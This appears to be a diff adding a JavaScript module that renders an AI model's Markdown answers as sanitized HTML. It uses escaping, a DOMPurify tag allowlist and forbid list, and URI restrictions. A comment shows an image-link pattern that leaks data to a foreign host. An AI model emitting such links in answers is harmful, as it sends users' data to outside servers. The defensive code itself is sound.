@@ -1,0 +1,79 @@
+// Markdown of a model -> HTML that is safe to show. The only file that makes HTML out of text.
+//
+// Three lines of defence: raw HTML in the Markdown is shown as text; DOMPurify keeps only the elements below; the
+// Content-Security-Policy with Trusted Types refuses every other way from a text to HTML, and all loading from elsewhere.
+
+import hljs from "../../vendor/highlight.js";
+import { Lexer, Marked } from "../../vendor/marked.js";
+import DOMPurify from "../../vendor/dompurify.js";
+
+const ENTITIES = { "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" };
+const escape = (text) => text.replace(/[&<>"']/g, (character) => ENTITIES[character]);
+
+// No img: an address in an answer would send what it contains to a foreign server (![](https://host/?q=secret)).
+const CONFIGURATION = {
+  ALLOWED_TAGS: [
+    ...["p", "br", "hr", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "pre", "code", "span", "a"],
+    ...["strong", "em", "del", "table", "thead", "tbody", "tr", "th", "td", "#text"],
+  ],
+  ALLOWED_ATTR: ["href", "class", "start", "align"],
+  ALLOWED_URI_REGEXP: /^(?:https?:\/\/|mailto:)/i,
+  ALLOW_DATA_ATTR: false,
+  ALLOW_ARIA_ATTR: false,
+  FORBID_TAGS: ["img", "svg", "math", "form", "input", "button", "style", "link", "meta", "iframe", "object", "embed", "base"],
+  RETURN_TRUSTED_TYPE: true,
+};
+
+DOMPurify.addHook("afterSanitizeAttributes", (node) => {
+  if (node.nodeName === "A" && node.hasAttribute("href")) {
+    node.setAttribute("rel", "noopener noreferrer");
+    node.setAttribute("target", "_blank");
+    node.setAttribute("title", node.getAttribute("href")); // the text of a link may name another address
+  }
+});
+
+/** Return code as HTML with the classes of highlight.js; unknown languages stay plain. */
+function highlighted(code, language) {
+  if (!hljs.getLanguage(language)) return escape(code);
+  return hljs.highlight(code, { language, ignoreIllegals: true }).value;
+}
+
+export const languageOf = (token) => /^[\w+#.-]*/.exec(token.lang ?? "")[0].toLowerCase();
+
+const renderer = {
+  // Models write <br> in the cells of tables; all other HTML is shown as it is written.
+  html: ({ text }) => (/^<br\s*\/?>$/i.test(text.trim()) ? "<br>" : escape(text)),
+  heading({ tokens, depth }) {
+    // h1 is the page and h2 a message, so that headings of an answer stay below its own.
+    const tag = `h${Math.min(depth + 2, 6)}`;
+    return `<${tag}>${this.parser.parseInline(tokens)}</${tag}>`;
+  },
+  code(token) {
+    const language = languageOf(token);
+    const className = language ? ` class="language-${escape(language)}"` : "";
+    return `<pre><code${className}>${highlighted(token.text, language)}</code></pre>`;
+  },
+  image: ({ href, text }) => `<a href="${escape(href)}">${escape(`Image: ${text || href}`)}</a>`,
+  checkbox: ({ checked }) => (checked ? "☑ " : "☐ "),
+};
+
+const marked = new Marked({ gfm: true, renderer });
+
+/** Split Markdown into block tokens. `links` has the link definitions of earlier blocks, and gets those of this text. */
+export function blocksOf(markdown, links = {}) {
+  const lexer = new Lexer(marked.defaults);
+  Object.assign(lexer.tokens.links, links);
+  const tokens = lexer.lex(markdown);
+  Object.assign(links, tokens.links);
+  return tokens;
+}
+
+/** Show block tokens in an element. */
+export function showBlocks(element, tokens) {
+  element.innerHTML = DOMPurify.sanitize(marked.parser(tokens), CONFIGURATION);
+}
+
+/** Show the text of a code block in its `code` element. */
+export function showCode(element, code, language) {
+  element.innerHTML = DOMPurify.sanitize(highlighted(code, language), CONFIGURATION);
+}
